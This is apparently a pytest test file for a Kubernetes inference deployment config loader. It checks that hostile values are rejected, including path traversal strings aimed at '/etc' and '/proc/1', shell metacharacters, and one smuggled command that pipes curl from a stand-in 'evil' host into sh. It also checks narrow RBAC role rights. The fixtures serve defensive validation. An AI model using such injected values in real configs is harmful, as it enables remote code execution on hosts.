"""Every text of the config has the grammar of its kind, and every word of the engine survives the operator's shell."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.configs import hardware, stack
from tests.support.examples import examples
from wideep import load
from wideep.dynamo import release
from wideep.errors import ConfigError
from wideep_cli.rbac.roles import deployer_roles, roles

SURVIVES = release("0.6.0").survives_shell
BUILD = {"source": "build", "repository": "r.example.com/d", "tag": "1"}
CACHE = {"size": "1Ti"}

Make = Callable[[str], dict[str, object]]

BAD: tuple[tuple[str, Make, tuple[str, ...]], ...] = (
    ("image.gitRef", lambda x: {"image": {**BUILD, "gitRef": x}}, ("../../evil/repo/main", "x#y", "a\nb", "-x", "a b")),
    ("image.builder", lambda x: {"image": {**BUILD, "builder": x}}, ("--help", "a;b", "a b")),
    ("image.platform", lambda x: {"image": {**BUILD, "platform": x}}, ("linux", "linux/amd64;x", "../x")),
    ("image.cacheTo.0", lambda x: {"image": {**BUILD, "cacheTo": [x]}}, ("type=registry ref=x", "a$(b)", "a\nb")),
    ("modelCache.downloadImage", lambda x: {"modelCache": {**CACHE, "downloadImage": x}}, ("a b", "A/B", "x:y:z")),
    ("modelCache.storageClass", lambda x: {"modelCache": {**CACHE, "storageClass": x}}, ("A", "a/b", "a\x1bb")),
    ("modelCache.path", lambda x: {"modelCache": {**CACHE, "path": x}}, ("a/../../../etc", "..", "/a", "a//b", "a b")),
    ("modelCache.revision", lambda x: {"modelCache": {**CACHE, "revision": x}}, ("../x", "a b", "-x")),
    ("modelCache.hostPath", lambda x: {"modelCache": {**CACHE, "hostPath": x}}, ("/a/../../etc", "a", "/a b")),
    (
        "modelCache.hostPath",
        lambda x: {"modelCache": {**CACHE, "hostPath": x}},
        ("/etc/kubernetes/manifests", "/etc", "/var/lib", "/var/lib/kubelet/pods", "/usr/local", "/root", "/proc/1"),
    ),
    ("platform.version", lambda x: {"platform": {"version": x}}, ("0.6.0/../../x", "v0.6.0", "0.6")),
    ("platform.charts", lambda x: {"platform": {"charts": x}}, ("http://charts.example.com", "file:///x", "a\nb")),
    ("platform.charts", lambda x: {"platform": {"charts": x}}, ("https://u:p@charts.example.com", "http://localhost.x")),
    ("hardware.rdmaResource", lambda x: {"hardware": {**hardware(), "rdmaResource": x}}, ("rdma", "a b/c", "a/b/c")),
    (
        "layout.decode.eplb.initialExpertLocation",
        lambda x: {"layout": {"preset": "lab-16gpu-singlenode", "decode": {"eplb": {"initialExpertLocation": x}}}},
        ("/model-cache/$(curl${IFS}evil|sh).json", "/a b.json", "/a;b.json", "/a\nb.json", "/a`b`.pt"),
    ),
)  # fmt: skip


@pytest.mark.parametrize(
    ("key", "make", "text"),
    [
        pytest.param(key, make, text, id=f"{key}-{number}")
        for key, make, texts in BAD
        for number, text in enumerate(texts)
    ],
)
def test_a_text_that_is_none_of_its_kind_is_refused(
    key: str, make: Callable[[str], dict[str, object]], text: str
) -> None:
    with pytest.raises(ConfigError) as error:
        load(stack(**make(text)))
    assert key in {problem.key for problem in error.value.problems}


def test_good_texts_are_taken() -> None:
    config = stack(
        image={
            **BUILD,
            "gitRef": "a" * 40,
            "builder": "k8s",
            "cacheTo": ["type=registry,ref=r.example.com/c:x,mode=max"],
        },
        modelCache={"size": "2Ti", "hostPath": "/mnt/models", "path": "deepseek-r1/v1.0", "revision": "refs/pr/1"},
        platform={"charts": "oci://r.example.com:5000/charts", "version": "0.6.1-rc.1"},
    )
    plan = load(config)
    assert plan.image_source.build is not None
    assert plan.image_source.build.context.endswith("a" * 40)


WORDS = st.text("abc/.-_ ;$`'\"|&<>(){}*?~#!\\\n", max_size=12)


@examples(60)
@given(WORDS, WORDS, WORDS)
def test_each_word_of_the_engine_survives_the_shell_whatever_the_settings_say(
    path: str, place: str, extra: str
) -> None:
    decode = {"eplb": {"initialExpertLocation": f"/{place}.json"}, "extraArgs": [extra] if extra else []}
    config = stack(
        layout={"preset": "lab-16gpu-singlenode", "decode": decode}, modelCache={"size": "2Ti", "path": path or "x"}
    )
    try:
        plan = load(config)
    except ConfigError:
        return
    assert all(SURVIVES(word) for role in plan.roles.values() for word in role.args)


def test_rights_on_pods_are_to_read_and_to_forward_and_commands_only_when_asked() -> None:
    def given_on(may_exec: bool) -> set[str]:
        rules = [rule for role in roles("lab", (), may_exec) for rule in role["rules"]]  # type: ignore
        assert not any("secrets" in rule["resources"] for rule in rules)  # type: ignore[index]
        return {each for rule in rules if "create" in rule["verbs"] for each in rule["resources"]}  # type: ignore[index]

    assert given_on(may_exec=False) == {"pods/portforward"}
    assert given_on(may_exec=True) == {"pods/portforward", "pods/exec"}


def test_the_right_to_make_jobs_is_there_only_for_who_is_to_measure() -> None:
    def changes(**asked: bool) -> set[tuple[str, str]]:
        rules: list[dict[str, list[str]]] = [rule for role in roles("lab", **asked) for rule in role["rules"]]  # type: ignore
        looks = {"get", "list", "watch"}
        all_verbs = {(each, verb) for rule in rules for each in rule["resources"] for verb in rule["verbs"]}
        return {(each, verb) for each, verb in all_verbs if verb not in looks and each != "pods/portforward"}

    made = {("jobs", "create"), ("jobs", "delete"), ("configmaps", "create"), ("configmaps", "patch")}
    assert (changes(), changes(may_measure=True)) == (set(), made)


def test_who_deploys_has_roles_of_another_name_that_change_the_namespace_and_nothing_else() -> None:
    def writes(role: dict[str, list[dict[str, list[str]]]]) -> set[str]:
        return {each for rule in role["rules"] if "patch" in rule["verbs"] for each in rule["resources"]}

    looks, deploys = roles("lab"), deployer_roles("lab")
    assert [each["kind"] for each in deploys] == ["ClusterRole", "Role"]
    assert deploys[0]["rules"] == looks[0]["rules"], "of the whole cluster they read what others read"  # type: ignore[index]
    assert {"secrets", "dynamographdeployments"} < writes(deploys[1])  # type: ignore[arg-type]
    names = [{each["metadata"]["name"] for each in made} for made in (looks, deploys)]  # type: ignore[index]
    assert names[0].isdisjoint(names[1])
